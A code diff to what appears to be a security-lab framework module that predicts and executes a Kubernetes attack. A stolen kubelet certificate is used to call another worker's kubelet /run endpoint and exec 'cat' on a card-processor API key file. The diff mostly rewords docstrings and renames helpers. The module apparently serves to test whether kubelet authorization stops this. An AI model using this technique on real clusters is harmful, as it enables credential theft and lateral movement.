@@ -1,7 +1,9 @@
-"""From one worker, run a command in a container of another, through that one's kubelet.
+"""Run a command in a container of another worker, with the certificate of a kubelet.
 
-A kubelet's certificate proves that its bearer is a kubelet. A kubelet that asks no more than
-that lets every worker into the containers of every other.
+The attacker needs root on a worker, where they take the certificate of its kubelet. They call the
+kubelet of another worker and read a secret from a file in one of its containers. It succeeds if
+that kubelet allows every authenticated caller. It stops if the kubelets ask the apiserver for
+authorization, because a kubelet has no right to ``nodes/proxy``.
 """
 
 from __future__ import annotations
@@ -11,9 +13,9 @@ from typing import TYPE_CHECKING
 from labkit.errors import ProbeError
 from labkit.model import Foothold, Model
 from labkit.model.rights import Action, known_to_kubelet, may_at_kubelet
-from labkit.techniques._lib.api.access import held_at, options_at
+from labkit.techniques._lib.api.access import credential_at, options_at
 from labkit.techniques._lib.api.ask import ask
-from labkit.techniques._lib.api.kubelet import as_apiserver, kubelet_url, patiently
+from labkit.techniques._lib.api.kubelet import as_apiserver, kubelet_url, retry_unknown_pod
 from labkit.techniques._lib.machines.reach import Answer
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import ROOT_ON_WORKER, SECRETS, Prediction, Technique
@@ -29,14 +31,14 @@ KUBELET = "kubelet@worker2"
 CHANNEL = f"kube-apiserver@* -> {KUBELET}:*"
 FILE = "/run/secrets/card-processor/api-key"
 PATH = f"/run/payments/card-processor/card-processor?cmd=cat%20{FILE}"
-#: As what the kubelet asks the apiserver about it.
+#: The action that the kubelet asks the apiserver to authorize.
 ACTION = Action("create", "nodes/proxy", name="worker2")
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whom the kubelet takes the caller for, and what he may do."""
+    """Predict how the kubelet identifies the caller, and what they may do there."""
     env, kubelet = model.environment, model.environment.component(KUBELET)
-    caller = known_to_kubelet(env, kubelet, held_at(env, foothold))
+    caller = known_to_kubelet(env, kubelet, credential_at(env, foothold))
     claim = may_at_kubelet(env, kubelet, caller, ACTION)
     if claim.value != "allowed":
         return Prediction(False, (str(claim),))
@@ -56,7 +58,7 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         proof(as_apiserver(lab, "POST", PATH, CHANNEL))
         return "with the apiserver's certificate, the same request runs the command"
 
-    return patiently(
+    return retry_unknown_pod(
         lambda: ask(
             lab,
             TECHNIQUE.name,
